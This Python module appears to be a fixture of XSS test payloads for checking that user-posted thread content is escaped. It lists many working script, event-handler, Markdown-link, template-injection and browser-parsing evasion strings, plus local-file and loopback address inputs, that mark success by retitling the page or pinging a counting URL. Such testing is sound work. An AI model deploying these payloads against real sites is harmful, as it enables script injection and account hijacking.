"""What an attacker would write into a thread: each sets the page's title, or asks a server that counts."""

from __future__ import annotations

__all__ = ["LIVE", "OWNED", "payloads"]

OWNED = "owned"
_RUN = "document.title='owned';new Image().src='{url}'"

LIVE = 24
"""How many of the first payloads need nobody's click to run where HTML is not escaped."""

_PAYLOADS = (
    # run by themselves in a page that takes HTML as it comes
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script src={url}></script>",
    "</script><script>{run}</script>",
    "</title><script>{run}</script>",
    "</style><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "--><script>{run}</script>",
    "]]><script>{run}</script>",
    "<img src={url}>",
    '<img src=x: onerror="{run}">',
    "<img src=x: onerror=\"eval(atob('ZG9jdW1lbnQudGl0bGU9J293bmVkJw=='))\">",
    '<svg onload="{run}">',
    "<svg><script>{run}</script></svg>",
    '<svg><animate onbegin="{run}" attributeName=x dur=1s>',
    '<svg><image href="{url}"></svg>',
    '<details open ontoggle="{run}">',
    '<iframe src="{url}"></iframe>',
    "<iframe srcdoc=\"<img src='{url}'>\"></iframe>",
    '<link rel=stylesheet href="{url}">',
    "<style>@import '{url}';</style>",
    '<video autoplay src="{url}"></video>',
    '<object data="{url}"></object>',
    "<div style=\"background:url('{url}')\">x</div>",
    # break out of an attribute, an element or a comment of the template
    '"><script>{run}</script>',
    "'><script>{run}</script>",
    '" onmouseover="{run}" x="',
    "' autofocus onfocus='{run}",
    '" style="background:url({url})',
    "</bdi></li></ol><script>{run}</script>",
    "</code></pre><script>{run}</script>",
    "{{{{ {run} }}}}",
    "{{{{ config.__class__.__init__.__globals__ }}}}{{% raw %}}<script>{run}</script>",
    "{{# #}}{{{{ '<script>{run}</script>' | safe }}}}",
    # leave the page, or change where it leads
    '<meta http-equiv=refresh content="0;url={url}">',
    '<base href="{url}">',
    '<form action="{url}"><input autofocus onfocus="{run}"></form>',
    # Markdown's own ways
    "[x](javascript:{run})",
    "[x](JaVaScRiPt:{run})",
    "[x](java&#115;cript:{run})",
    "[x](&#x6A;avascript:{run})",
    "[x](\tjavascript:{run})",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5kb2N1bWVudC50aXRsZT0nb3duZWQnPC9zY3JpcHQ+)",
    "<javascript:{run}>",
    "[x]({url} \"t' onmouseover='{run}\")",
    '[x](https://e.com/"onmouseover="{run})',
    "![x]({url})",
    '![" onerror="{run}]({url})',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImRvY3VtZW50LnRpdGxlPSdvd25lZCciLz4=)",
    "[x][1]\n\n[1]: javascript:{run}",
    "[1]: {url}\n\n![1]",
    '```"><script>{run}</script>\ncode\n```',
    "```html\n</code></pre><script>{run}</script>\n```",
    "`</code><script>{run}</script>`",
    "| a |\n|---|\n| <script>{run}</script> |",
    "# <img src={url}>",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "\\<script>{run}</script>",
    # what a browser repairs in ways of its own
    "<scr\x00ipt>{run}</scr\x00ipt>",
    "<<script>script>{run}</script>",
    "<script\x0c>{run}</script>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src={url}&gt;">',
    '<noscript><p title="</noscript><img src={url}>">',
    '<svg></p><style><a id="</style><img src={url}>">',
    "\ufeff<script>{run}</script>",
    "\ud83c<script>{run}</script>",
    "\u202e<script>{run}</script>\u2066",
    "\ufffc0\ufffc<script>{run}</script>\ufffc\ufffc1\ufffc",
    # addresses, whole
    "javascript:{run}",
    " javascript:{run}",
    "java\nscript:{run}",
    "\x01javascript:{run}",
    "data:text/html,<script>{run}</script>",
    "//127.0.0.1/",
    'https://e.com/" onclick="{run}',
    "https:javascript:{run}",
    "http:\\\\e.com",
    "blob:https://e.com/1",
    "file:///etc/passwd",
)


def payloads(url: str) -> list[str]:
    """The payloads, asking `url`."""
    run = _RUN.replace("{url}", url)
    return [
        payload.replace("{{", "{").replace("}}", "}").replace("{run}", run).replace("{url}", url)
        for payload in _PAYLOADS
    ]
